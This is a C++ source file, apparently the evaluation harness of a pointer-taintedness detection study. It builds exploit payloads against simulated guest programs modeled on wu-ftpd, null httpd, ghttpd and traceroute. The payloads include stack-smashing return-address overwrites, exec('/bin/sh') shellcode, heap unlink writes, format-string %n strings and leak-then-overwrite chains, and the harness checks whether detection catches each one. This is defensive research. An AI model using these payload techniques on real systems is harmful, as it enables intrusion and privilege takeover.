#include "core/attack.hpp"

#include <cassert>
#include <stdexcept>
#include <cstdio>
#include <functional>

#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::core {
namespace {

using guest::link_with_runtime;
namespace apps = guest::apps;

std::string hex32(uint32_t v) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "0x%x", v);
  return buf;
}

/// Little-endian 4 raw bytes of a word, for splicing addresses into
/// attack payloads.
std::string le_bytes(uint32_t v) {
  std::string out(4, '\0');
  for (int i = 0; i < 4; ++i) out[i] = static_cast<char>(v >> (8 * i));
  return out;
}

bool contains_whitespace(const std::string& s) {
  for (char c : s) {
    if (c == ' ' || c == '\n' || c == '\t' || c == '\r') return true;
  }
  return false;
}

struct ScenarioSpec {
  AttackId id;
  std::string name;
  std::string category;
  bool control_data = false;
  bool expected_detected = true;
  asmgen::Source app;
  uint64_t max_instructions = 50'000'000;
  std::vector<std::string> attack_argv;  // guest argv for the attack run
  std::vector<std::string> benign_argv;
  // Installs attack inputs (stdin / argv / network sessions).  Receives the
  // assembled program so payloads can splice symbol addresses.
  std::function<void(Machine&, const asmgen::Program&)> arm_attack;
  // Installs the benign workload.
  std::function<void(Machine&, const asmgen::Program&)> arm_benign;
  // Evidence that the attack achieved its goal (run with detection off or
  // when the detector misses).  Returns a description, or nullopt.
  std::function<std::optional<std::string>(Machine&, const RunReport&)>
      evidence;
};

class SpecScenario : public Scenario {
 public:
  explicit SpecScenario(ScenarioSpec spec) : spec_(std::move(spec)) {}

  AttackId id() const override { return spec_.id; }
  std::string name() const override { return spec_.name; }
  std::string category() const override { return spec_.category; }
  bool corrupts_control_data() const override { return spec_.control_data; }
  bool expected_detected() const override { return spec_.expected_detected; }

  uint64_t max_instructions() const override { return spec_.max_instructions; }

  std::unique_ptr<Machine> prepare_attack(
      const cpu::TaintPolicy& policy,
      std::optional<cpu::Engine> engine) const override {
    MachineConfig cfg;
    cfg.policy = policy;
    cfg.engine = engine;
    cfg.max_instructions = spec_.max_instructions;
    cfg.argv = spec_.attack_argv;
    auto m = std::make_unique<Machine>(cfg);
    m->load_sources(link_with_runtime(spec_.app));
    spec_.arm_attack(*m, m->program());
    return m;
  }

  std::unique_ptr<Machine> prepare_benign() const override {
    MachineConfig cfg;  // full paper policy
    cfg.max_instructions = spec_.max_instructions;
    cfg.argv = spec_.benign_argv;
    auto m = std::make_unique<Machine>(cfg);
    m->load_sources(link_with_runtime(spec_.app));
    spec_.arm_benign(*m, m->program());
    return m;
  }

  ScenarioResult classify_attack(Machine& m, RunReport report) const override {
    ScenarioResult result;
    result.report = std::move(report);
    auto evidence = spec_.evidence(m, result.report);
    if (result.report.detected()) {
      result.outcome = Outcome::kDetected;
      result.detail = result.report.alert_line();
    } else if (evidence) {
      result.outcome = Outcome::kCompromised;
      result.detail = *evidence;
    } else if (result.report.stop == cpu::StopReason::kFault ||
               result.report.stop == cpu::StopReason::kInstLimit) {
      result.outcome = Outcome::kCrashed;
      result.detail = result.report.fault;
    } else {
      result.outcome = Outcome::kBenign;
      result.detail = "attack had no observable effect";
    }
    return result;
  }

  ScenarioResult classify_benign(Machine& m, RunReport report) const override {
    ScenarioResult result;
    result.report = std::move(report);
    auto evidence = spec_.evidence(m, result.report);
    if (result.report.detected()) {
      result.outcome = Outcome::kDetected;  // would be a false positive
      result.detail = result.report.alert_line();
    } else if (evidence) {
      result.outcome = Outcome::kCompromised;
      result.detail = *evidence;
    } else if (result.report.stop == cpu::StopReason::kExit) {
      result.outcome = Outcome::kBenign;
    } else {
      result.outcome = Outcome::kCrashed;
      result.detail = result.report.fault;
    }
    return result;
  }

 private:
  ScenarioSpec spec_;
};

// ---- scenario definitions ----

std::unique_ptr<Scenario> exp1_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kExp1Stack;
  s.name = "exp1-stack-smash";
  s.category = "buffer overflow";
  s.control_data = true;
  // The Figure 2 program plus a privileged function the weaponized payload
  // returns into (return-to-existing-code; the classic alternative is
  // injected shellcode, which our writable-stack simulator would also run).
  //
  // scanf("%s") cannot deliver whitespace bytes, so the payload address of
  // `grant` must avoid 0x09/0x0a/0x0d/0x20 — pad with nops until it does,
  // the same constraint-solving a real exploit performs on its payload.
  const char* kGrantCode = R"(
grant:
    addiu $sp, $sp, -24
    sw $ra, 20($sp)
    la $a0, shell_path
    jal exec
    li $a0, 0
    jal exit
    .data
shell_path: .asciiz "/bin/sh"
)";
  for (int pad = 0;; ++pad) {
    std::string text = apps::exp1_stack().text + "\n.text\n";
    for (int i = 0; i < pad; ++i) text += "    nop\n";
    text += kGrantCode;
    asmgen::Source candidate{"exp1.s", text};
    auto prog = asmgen::assemble(link_with_runtime(candidate));
    if (!contains_whitespace(le_bytes(prog.symbols.at("grant")))) {
      s.app = std::move(candidate);
      break;
    }
    if (pad > 128) {  // byte1 escapes any whitespace value within 256B
      s.app = std::move(candidate);
      break;
    }
  }
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // 20 filler bytes reach the saved return address at buf+20.
    std::string payload(20, 'a');
    payload += le_bytes(prog.symbols.at("grant"));
    m.os().set_stdin(payload);
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("hi");
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    for (const auto& path : m.os().exec_log()) {
      if (path == "/bin/sh") return "return address hijacked; spawned /bin/sh";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

/// Machine code + data for a classic exec("/bin/sh") shellcode placed at
/// `code_addr`.  All bytes are whitespace-free so scanf("%s") delivers
/// them intact.
std::string build_shellcode(uint32_t code_addr) {
  using isa::Instruction;
  using isa::Op;
  std::vector<Instruction> code;
  auto imm = [](Op op, uint8_t rt, uint8_t rs, int32_t v) {
    Instruction i;
    i.op = op;
    i.rt = rt;
    i.rs = rs;
    i.imm = v;
    return i;
  };
  const uint32_t str_addr = code_addr + 7 * 4;  // "/bin/sh" after the code
  code.push_back(imm(Op::kLui, isa::kA0, 0, static_cast<int32_t>(str_addr >> 16)));
  code.push_back(imm(Op::kOri, isa::kA0, isa::kA0,
                     static_cast<int32_t>(str_addr & 0xffff)));
  code.push_back(imm(Op::kAddiu, isa::kV0, isa::kZero, 59));  // SYS_EXEC
  code.push_back({.op = Op::kSyscall});
  code.push_back(imm(Op::kAddiu, isa::kA0, isa::kZero, 0));
  code.push_back(imm(Op::kAddiu, isa::kV0, isa::kZero, 1));   // SYS_EXIT
  code.push_back({.op = Op::kSyscall});

  std::string bytes;
  for (const auto& inst : code) bytes += le_bytes(isa::encode(inst));
  bytes += "/bin/sh";
  bytes.push_back('\0');
  return bytes;
}

std::unique_ptr<Scenario> exp1_shellcode_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kExp1Shellcode;
  s.name = "exp1-injected-shellcode";
  s.category = "buffer overflow";
  s.control_data = true;
  s.app = apps::exp1_stack();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    // exp1's frame is fixed: main (24 bytes) then exp1 (40), so exp1's sp
    // is kStackTop-64, buf sits at sp+16 and the saved return address 20
    // bytes into the payload.  The shellcode follows the overwritten slot.
    const uint32_t exp1_sp = isa::layout::kStackTop - 64;
    const uint32_t buf = exp1_sp + 16;
    const uint32_t code_addr = buf + 24;
    std::string payload(20, 'a');
    payload += le_bytes(code_addr);  // saved $ra -> the stack itself
    payload += build_shellcode(code_addr);
    if (contains_whitespace(payload)) {
      throw std::runtime_error("shellcode payload contains whitespace");
    }
    m.os().set_stdin(payload);
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("hello");
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    for (const auto& path : m.os().exec_log()) {
      if (path == "/bin/sh") {
        return "injected stack shellcode executed /bin/sh";
      }
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> exp2_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kExp2Heap;
  s.name = "exp2-heap-corruption";
  s.category = "heap corruption";
  s.control_data = false;
  // Add an attack target: a mode flag the unlink's mirrored write flips.
  s.app = {"exp2.s", std::string(apps::exp2_heap().text) + R"(
    .data
    .align 2
admin_mode: .word 0
)"};
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // Craft the next chunk's header and links: unlink writes
    //   *(fd+8) = bk  and  *(bk+4) = fd.
    // fd = &admin_mode - 8 redirects the first write onto admin_mode.
    const uint32_t target = prog.symbols.at("admin_mode");
    std::string payload(12, 'a');            // fill payload + padding
    payload += le_bytes(0x100);              // plausible free-chunk size
    payload += le_bytes(target - 8);         // fd
    payload += le_bytes(0x42424240);         // bk: value written to target
                                             // (aligned so the mirrored
                                             // *(bk+4)=fd write lands too)
    m.os().set_stdin(payload);
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("ok");
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    const uint32_t target = m.program().symbols.at("admin_mode");
    const uint32_t value = m.memory().load_word(target).value;
    if (value != 0) {
      return "heap unlink wrote " + hex32(value) + " over admin_mode";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> exp3_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kExp3Format;
  s.name = "exp3-format-string";
  s.category = "format string";
  s.control_data = false;
  s.app = apps::exp3_format();
  // The paper's demo string is abcd%x%x%x%n (target 0x64636261); the
  // weaponized variant uses a word-aligned target so the store actually
  // lands when no detector stops it (an unaligned %n target traps instead).
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({le_bytes(0x64636360) + "%x%x%x%n"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"hello from client"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    const uint32_t value = m.memory().load_word(0x64636360).value;
    if (value != 0) {
      return "%n wrote " + hex32(value) + " to 0x64636360";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> wuftpd_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kWuFtpdFormat;
  s.name = "wu-ftpd-site-exec";
  s.category = "format string";
  s.control_data = false;
  s.app = apps::wu_ftpd();
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // Table 2: site exec \x20\xbc\x02\x10%x%x%x%x%x%x%n — the raw bytes are
    // the address of the logged-in user's uid word (0x1002bc20).
    const uint32_t uid_addr = prog.symbols.at("login_uid");
    std::string cmd = "site exec " + le_bytes(uid_addr) + "%x%x%x%x%x%x%n";
    m.os().net().add_session(
        {"user user1\r\n", "pass xxxxxxx\r\n", cmd + "\r\n", "quit\r\n"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"user user1\r\n", "pass xxxxxxx\r\n",
                              "site exec hello %d %d\r\n", "quit\r\n"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    const uint32_t uid_addr = m.program().symbols.at("login_uid");
    const auto uid = m.memory().load_word(uid_addr);
    if (uid.value != 1000 && uid.value != static_cast<uint32_t>(-1)) {
      return "login_uid overwritten to " + hex32(uid.value) +
             " (privilege state corrupted)";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> nullhttpd_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kNullHttpdHeap;
  s.name = "null-httpd-content-length";
  s.category = "heap corruption";
  s.control_data = false;
  s.app = apps::null_httpd();
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // POST with Content-Length -800: the server allocates 1024-800 = 224
    // bytes but receives up to 1024.  The body overflows into the next free
    // chunk's header/links.  unlink writes *(fd+8)=bk and *(bk+4)=fd; with
    // bk = &cgibin_ptr-4 the second write redirects the config pointer at
    // fd, a "/bin" string smuggled (word-aligned) after the request
    // headers, while the first write lands harmlessly in the padding
    // behind that string.
    const uint32_t cgibin_ptr = prog.symbols.at("cgibin_ptr");
    const uint32_t req = prog.symbols.at("req");
    std::string header = "POST /form HTTP/1.0\r\nContent-Length: -800\r\n\r\n";
    while (header.size() % 4 != 0) header.push_back('\0');
    const uint32_t fake_root = req + static_cast<uint32_t>(header.size());
    header += "/bin";
    header += std::string(12, '\0');        // NUL + slack for *(fd+8)=bk
    std::string body(228, 'A');
    body += le_bytes(0x100);                // next-chunk size (even = free)
    body += le_bytes(fake_root);            // fd
    body += le_bytes(cgibin_ptr - 4);       // bk
    m.os().net().add_session(
        {header, body, "GET /cgi-bin/sh HTTP/1.0\r\n"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session(
        {"GET / HTTP/1.0\r\n",
         "POST /form HTTP/1.0\r\nContent-Length: 16\r\n\r\n",
         "name=alice&x=1\r\n", "GET /cgi-bin/../etc HTTP/1.0\r\n"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    for (const auto& path : m.os().exec_log()) {
      if (path.rfind("/bin/", 0) == 0) {
        return "CGI root corrupted; server exec'd " + path;
      }
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> ghttpd_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kGhttpdStack;
  s.name = "ghttpd-log-overflow";
  s.category = "buffer overflow";
  s.control_data = false;
  s.app = apps::ghttpd();
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // Reconnaissance run: learn the request buffer's stack address (it is
    // deterministic) from the dbg_reqbuf drop, then build the payload.
    uint32_t reqbuf;
    {
      MachineConfig recon_cfg;
      recon_cfg.max_instructions = 10'000'000;
      recon_cfg.engine = m.cpu().engine();
      Machine recon(recon_cfg);
      recon.load_sources(link_with_runtime(apps::ghttpd()));
      recon.os().net().add_session({"GET /index.html HTTP/1.0\r\n"});
      recon.run();
      reqbuf =
          recon.memory().load_word(prog.symbols.at("dbg_reqbuf")).value;
      assert(reqbuf != 0);
    }
    // Request layout: "GET " + 196 filler + url-pointer + "\n" + real URL.
    // strcpy(logbuf, request) moves request[200..203] over the URL-pointer
    // slot; it then points at the "/.."-laden URL that was never checked.
    const uint32_t evil_url = reqbuf + 205;
    std::string req = "GET ";
    req += std::string(196, 'A');
    req += le_bytes(evil_url);
    req += "\n";
    req += "/cgi-bin/../../../../bin/sh";
    assert(!contains_whitespace(le_bytes(evil_url)));
    m.os().net().add_session({req});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"GET /index.html HTTP/1.0\r\n"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    for (const auto& path : m.os().exec_log()) {
      if (path == "/bin/sh") {
        return "URL pointer redirected past the /.. check; exec'd /bin/sh";
      }
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> traceroute_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kTracerouteDoubleFree;
  s.name = "traceroute-double-free";
  s.category = "heap corruption";
  s.control_data = false;
  s.app = apps::traceroute();
  // The second gateway's leading bytes "8.8." (0x2e382e38) become the
  // backward link the corrupted unlink dereferences — a word-aligned,
  // attacker-chosen pointer, as in a weaponized double-free exploit.
  s.attack_argv = {"traceroute", "-g", "123", "-g", "8.8.8.8"};
  s.benign_argv = {"traceroute", "-g", "10.0.0.1", "hostx"};
  s.arm_attack = [](Machine&, const asmgen::Program&) {};
  s.arm_benign = [](Machine&, const asmgen::Program&) {};
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    // unlink's *(bk+4) = fd lands at 0x2e382e38 + 4.
    const uint32_t value = m.memory().load_word(0x2e382e38 + 4).value;
    if (value != 0) {
      return "stale savestr links dereferenced; wild write of " +
             hex32(value) + " at 0x2e382e3c";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> globd_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kGlobExpansion;
  s.name = "globd-tilde-expansion";
  s.category = "globbing";
  s.control_data = false;
  s.app = apps::globd();
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // "/home/" (6 bytes) + username fills the 68-byte glob chunk payload;
    // username bytes 62..73 land on the next free chunk's size/fd/bk.
    // Every crafted byte must be NUL- and whitespace-free to survive the
    // strcat copy, which is why glob_admin sits at a pinned address.
    const uint32_t target = prog.symbols.at("glob_admin");
    const uint32_t fd = target - 8;
    assert(fd % 4 == 0);
    std::string username(62, 'A');
    username += le_bytes(0x02020202);  // next-chunk size: even, NUL-free
    username += le_bytes(fd);
    username += le_bytes(0x42424240);  // bk: value written over glob_admin
    for (char c : username) {
      assert(c != '\0');
      (void)c;
    }
    assert(!contains_whitespace(username));
    m.os().net().add_session({"LIST ~" + username});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"LIST *", "LIST readme.txt", "LIST ~bob"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    const uint32_t target = m.program().symbols.at("glob_admin");
    const uint32_t value = m.memory().load_word(target).value;
    if (value != 0) {
      return "glob unlink wrote " + hex32(value) + " over glob_admin";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> fn_intoverflow_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kFnIntOverflow;
  s.name = "fn-integer-overflow-index";
  s.category = "integer overflow";
  s.control_data = false;
  s.expected_detected = false;  // Table 4(A): known false negative
  s.app = apps::fn_int_overflow();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("-16");
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("3");
  };
  s.evidence = [](Machine& m, const RunReport& r) -> std::optional<std::string> {
    const uint32_t sentinel = m.program().symbols.at("sentinel");
    const uint32_t value = m.memory().load_word(sentinel).value;
    if (value != 0x11111111 && r.stop == cpu::StopReason::kExit) {
      return "negative index wrote " + hex32(value) +
             " 16 words below the array";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> fn_authflag_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kFnAuthFlag;
  s.name = "fn-auth-flag-overwrite";
  s.category = "buffer overflow";
  s.control_data = false;
  s.expected_detected = false;  // Table 4(B)
  s.app = apps::fn_auth_flag();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin(std::string(16, 'a'));  // reaches the flag at buf+12
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("alice");
  };
  s.evidence = [](Machine&, const RunReport& r) -> std::optional<std::string> {
    if (r.stop == cpu::StopReason::kExit && r.exit_status == 7) {
      return "access granted without authentication (flag overwritten)";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> fn_fmtleak_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kFnFormatLeak;
  s.name = "fn-format-string-leak";
  s.category = "format string";
  s.control_data = false;
  s.expected_detected = false;  // Table 4(C)
  s.app = apps::fn_format_leak();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"%x%x%x%x"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"plain text"});
  };
  s.evidence = [](Machine& m, const RunReport& r) -> std::optional<std::string> {
    const bool on_stdout = r.stdout_text.find("5ec2e7") != std::string::npos;
    const bool on_socket =
        m.os().net().session_count() > 0 &&
        m.os().net().transcript(0).find("5ec2e7") != std::string::npos;
    if (on_stdout || on_socket) {
      return "secret key leaked via %x";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

// ---- address-leak -> precise-overwrite scenarios ----
//
// The disclosure phase is deterministic, so the "attacker" is modeled the
// way the ghttpd scenario models reconnaissance: a recon run reads the
// dbg_* drop to learn the address a live attacker would parse from the
// leaked bytes, and the scripted session replays the leak request (the
// detection point under leak_detection) followed by the computed overwrite.

/// Runs `app` against `recon_session` on `engine` and returns the word the
/// app dropped at `symbol` — the same address the leak phase disclosed on
/// the wire.
uint32_t recon_leaked_word(cpu::Engine engine, const asmgen::Source& app,
                           const std::vector<std::string>& recon_session,
                           const char* symbol) {
  MachineConfig cfg;
  cfg.max_instructions = 10'000'000;
  cfg.engine = engine;
  Machine recon(cfg);
  recon.load_sources(link_with_runtime(app));
  recon.os().net().add_session(recon_session);
  recon.run();
  const uint32_t addr =
      recon.memory().load_word(recon.program().symbols.at(symbol)).value;
  assert(addr != 0);
  return addr;
}

std::optional<std::string> shell_exec_evidence(Machine& m, const char* what) {
  for (const auto& path : m.os().exec_log()) {
    if (path == "/bin/sh") return std::string(what);
  }
  return std::nullopt;
}

std::unique_ptr<Scenario> leak_telemetry_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kLeakTelemetry;
  s.name = "leak-telemetry-peek";
  s.category = "address leak";
  s.control_data = false;
  s.expected_detected = false;  // data-taint direction: compare-validated
  s.app = apps::leak_telemetry();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    // PEEK leaks &reqbuf; is_admin sits 8 bytes below it (sp+24 vs sp+32).
    const uint32_t reqbuf =
        recon_leaked_word(m.cpu().engine(), apps::leak_telemetry(),
                          {"PEEK", "QUIT"}, "dbg_reqbuf");
    m.os().net().add_session(
        {"PEEK", "POKE" + le_bytes(reqbuf - 8) + le_bytes(1), "QUIT"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"STAT", "QUIT"});
  };
  s.evidence = [](Machine& m, const RunReport&) {
    return shell_exec_evidence(
        m, "leaked stack address pinpointed is_admin; spawned /bin/sh");
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> leak_session_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kLeakSession;
  s.name = "leak-session-token";
  s.category = "address leak";
  s.control_data = false;
  s.expected_detected = false;
  s.app = apps::leak_session();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    // SESS leaks the session record's heap address; uid is its first word.
    const uint32_t record =
        recon_leaked_word(m.cpu().engine(), apps::leak_session(),
                          {"SESS", "QUIT"}, "dbg_session");
    m.os().net().add_session(
        {"SESS", "SETU" + le_bytes(record) + le_bytes(0), "QUIT"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"HELO", "QUIT"});
  };
  s.evidence = [](Machine& m, const RunReport&) {
    return shell_exec_evidence(
        m, "session token disclosed the uid word; forged uid 0, /bin/sh");
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> leak_banner_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kLeakBanner;
  s.name = "leak-banner-format";
  s.category = "address leak";
  s.control_data = false;
  s.expected_detected = false;
  s.app = apps::leak_banner();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    // "%x" prints the spilled request-buffer pointer in hex; the audited
    // flag sits 8 bytes below the buffer (sp+24 vs sp+32).
    const uint32_t reqbuf = recon_leaked_word(
        m.cpu().engine(), apps::leak_banner(), {"audit %x", "status"},
        "dbg_reqbuf");
    m.os().net().add_session(
        {"audit %x", "POKE" + le_bytes(reqbuf - 8) + le_bytes(1)});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"hello from client", "status check"});
  };
  s.evidence = [](Machine& m, const RunReport&) {
    return shell_exec_evidence(
        m, "%x leaked the frame address; audited flag forged, /bin/sh");
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

}  // namespace

const char* to_string(Outcome outcome) {
  switch (outcome) {
    case Outcome::kDetected: return "DETECTED";
    case Outcome::kCompromised: return "COMPROMISED";
    case Outcome::kCrashed: return "CRASHED";
    case Outcome::kBenign: return "benign";
  }
  return "?";
}

const char* to_string(cpu::DetectionMode mode) {
  switch (mode) {
    case cpu::DetectionMode::kOff: return "unprotected";
    case cpu::DetectionMode::kControlDataOnly: return "control-data-only";
    case cpu::DetectionMode::kPointerTaint: return "pointer-taintedness";
  }
  return "?";
}

std::unique_ptr<Scenario> make_scenario(AttackId id) {
  switch (id) {
    case AttackId::kExp1Stack: return exp1_scenario();
    case AttackId::kExp1Shellcode: return exp1_shellcode_scenario();
    case AttackId::kExp2Heap: return exp2_scenario();
    case AttackId::kExp3Format: return exp3_scenario();
    case AttackId::kWuFtpdFormat: return wuftpd_scenario();
    case AttackId::kNullHttpdHeap: return nullhttpd_scenario();
    case AttackId::kGhttpdStack: return ghttpd_scenario();
    case AttackId::kTracerouteDoubleFree: return traceroute_scenario();
    case AttackId::kGlobExpansion: return globd_scenario();
    case AttackId::kFnIntOverflow: return fn_intoverflow_scenario();
    case AttackId::kFnAuthFlag: return fn_authflag_scenario();
    case AttackId::kFnFormatLeak: return fn_fmtleak_scenario();
    case AttackId::kLeakTelemetry: return leak_telemetry_scenario();
    case AttackId::kLeakSession: return leak_session_scenario();
    case AttackId::kLeakBanner: return leak_banner_scenario();
  }
  return nullptr;
}

std::vector<std::unique_ptr<Scenario>> make_attack_corpus() {
  std::vector<std::unique_ptr<Scenario>> corpus;
  for (AttackId id :
       {AttackId::kExp1Stack, AttackId::kExp1Shellcode, AttackId::kExp2Heap,
        AttackId::kExp3Format,
        AttackId::kWuFtpdFormat, AttackId::kNullHttpdHeap,
        AttackId::kGhttpdStack, AttackId::kTracerouteDoubleFree,
        AttackId::kGlobExpansion,
        AttackId::kFnIntOverflow, AttackId::kFnAuthFlag,
        AttackId::kFnFormatLeak,
        AttackId::kLeakTelemetry, AttackId::kLeakSession,
        AttackId::kLeakBanner}) {
    corpus.push_back(make_scenario(id));
  }
  return corpus;
}

}  // namespace ptaint::core
